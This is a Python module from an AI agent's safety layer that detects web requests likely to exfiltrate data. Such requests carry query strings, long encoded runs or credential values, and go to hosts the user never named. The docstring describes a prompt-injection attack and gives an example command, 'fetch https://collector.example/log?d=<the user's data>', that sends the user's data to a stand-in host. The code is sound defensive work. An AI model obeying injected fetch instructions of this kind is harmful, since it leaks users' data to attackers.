"""Web requests that would carry data out to a host the user never named (issue #19's policy
route: whatever the wording of injected text, it cannot make the agent send data unasked).

The commonest tool-borne exfiltration needs no POST: a page or passage tells the model to
"fetch https://collector.example/log?d=<the user's data>", and the request itself delivers the
data. No wording test can tell that request from a search, but two facts can: the address
carries data (a query string, a long unbroken run in the path, a long host label), and its host
is one the user has not named in this conversation. Such a `web_fetch` asks first; an address
that holds one of this process's credential values is refused outright.

Hosts the user named: every URL and bare domain in the user's own messages of the session
(`named_hosts`). A named host covers its subdomains; a name with a port covers that port only.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import unquote, urlsplit

from .risk_rules import RiskAssessment, RiskClass

# A run this long with no separator in a path segment or host label is data, not a word or
# a slug ("how-to-merge-frames" breaks at each dash; base64 and hex of 24+ bytes do not).
BLOB_RUN = 32
_SEPARATORS = re.compile(r"[-_.~/+,;:=@!$&'()*\s]+")
_URL = re.compile(r"\b(?:https?|wss?|ftp)://[^\s<>\"'`)\]}]+", re.IGNORECASE)
# Bare domains in prose: labels of letters, digits and dashes, ending in a letter-only TLD.
_DOMAIN = re.compile(r"(?<![\w@.-])((?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24})"
                     r"(?::(\d{1,5}))?(?![\w-])", re.IGNORECASE)
_LOCAL = re.compile(r"(?<![\w.-])(localhost|\d{1,3}(?:\.\d{1,3}){3})(?::(\d{1,5}))?(?![\w-])",
                    re.IGNORECASE)
# Common file extensions: "report.csv" or "train.py" in a message is a file, not a host.
_FILE_SUFFIXES = frozenset((
    "py", "ipynb", "csv", "tsv", "json", "jsonl", "md", "txt", "yaml", "yml", "toml", "ini",
    "cfg", "parquet", "feather", "xlsx", "xls", "pdf", "png", "jpg", "jpeg", "gif", "svg",
    "html", "htm", "js", "ts", "sql", "sh", "log", "zip", "gz", "tar", "db", "duckdb", "pkl",
    "npz", "npy", "h5", "rmd"))


def _host_port(url: str) -> tuple[str, int | None] | None:
    try:
        parts = urlsplit(url)
        port = parts.port
    except ValueError:
        return None
    host = (parts.hostname or "").lower().rstrip(".")
    return (host, port) if host else None


def named_hosts(texts: Iterable[str]) -> set[str]:
    """Hosts named in `texts`, as `host` or `host:port`: those of URLs and bare domains."""
    found: set[str] = set()
    for text in texts:
        for match in _URL.finditer(text):
            parsed = _host_port(match.group(0))
            if parsed is not None:
                host, port = parsed
                found.add(f"{host}:{port}" if port else host)
        for match in _DOMAIN.finditer(_URL.sub(" ", text)):
            host = match.group(1).lower()
            if host.rsplit(".", 1)[1] in _FILE_SUFFIXES:
                continue
            found.add(f"{host}:{match.group(2)}" if match.group(2) else host)
        for match in _LOCAL.finditer(_URL.sub(" ", text)):
            host = match.group(1).lower()
            found.add(f"{host}:{match.group(2)}" if match.group(2) else host)
    return found


def host_is_named(url: str, named: Iterable[str]) -> bool:
    """Whether the user named `url`'s host (or a parent domain of it, on any port unless the
    name gave one)."""
    parsed = _host_port(url)
    if parsed is None:
        return False
    host, port = parsed
    for name in named:
        want, _, want_port = name.rpartition(":") if _has_port(name) else (name, "", "")
        if want_port and (port is None or str(port) != want_port):
            continue
        if host == want or host.endswith("." + want):
            return True
    return False


def _has_port(name: str) -> bool:
    head, sep, tail = name.rpartition(":")
    return bool(sep) and tail.isdigit() and not head.endswith(":")  # not an IPv6 address


def _blob(text: str) -> str | None:
    """The first unbroken run of `BLOB_RUN`+ characters in `text`, if any."""
    for run in _SEPARATORS.split(text):
        if len(run) >= BLOB_RUN:
            return run
    return None


def _encoded(segment: str) -> bool:
    """Whether a path segment of `BLOB_RUN`+ characters mixes cases and digits the way
    base64 does (its `+`, `/` and `-` break runs; a slug or a title does not mix them)."""
    if len(segment) < BLOB_RUN:
        return False
    # capitals inside a run, not at its start ("List_of_Presidents" has none)
    inner_upper = sum(c.isupper() and i > 0 and segment[i - 1].isalnum()
                      for i, c in enumerate(segment))
    lower = sum(c.islower() for c in segment)
    digits = sum(c.isdigit() for c in segment)
    return inner_upper >= 4 and lower >= 4 and digits >= 2


def data_in_url(url: str) -> list[str]:
    """What in `url`'s address would carry data to its server (empty: nothing but a plain
    path). The fragment stays in the browser and is not counted."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return []
    found = []
    if parts.query:
        found.append(f"a query string of {len(parts.query):,} characters")
    for segment in map(unquote, parts.path.split("/")):
        if (run := _blob(segment)) is not None:
            found.append(f"a run of {len(run)} characters in its path")
            break
        if _encoded(segment):
            found.append(f"an encoded-looking part of {len(segment)} characters in its path")
            break
    if (run := _blob((parts.hostname or "").replace(".", " "))) is not None:
        found.append(f"a host name label of {len(run)} characters")
    return found


def assess_request(url: str, named: Iterable[str], secrets: Iterable[str] = ()
                   ) -> RiskAssessment:
    """What one outgoing request risks: blocked when its address holds a credential value,
    `outbound_data` when it carries data to a host the user has not named."""
    result = RiskAssessment()
    decoded = unquote(url)
    if any(s and (s in url or s in decoded) for s in secrets):
        result.blocked = ("puts one of this process's credential values into a web address, "
                          "which would send it to that server")
        return result
    if host_is_named(url, named):
        return result
    carried = data_in_url(url)
    if carried:
        host = (_host_port(url) or ("?", None))[0]
        result.add(RiskClass.OUTBOUND_DATA,
                   f"sends {' and '.join(carried)} to {host}, a host you have not named in "
                   "this conversation (text the agent read may have asked for it)")
    return result
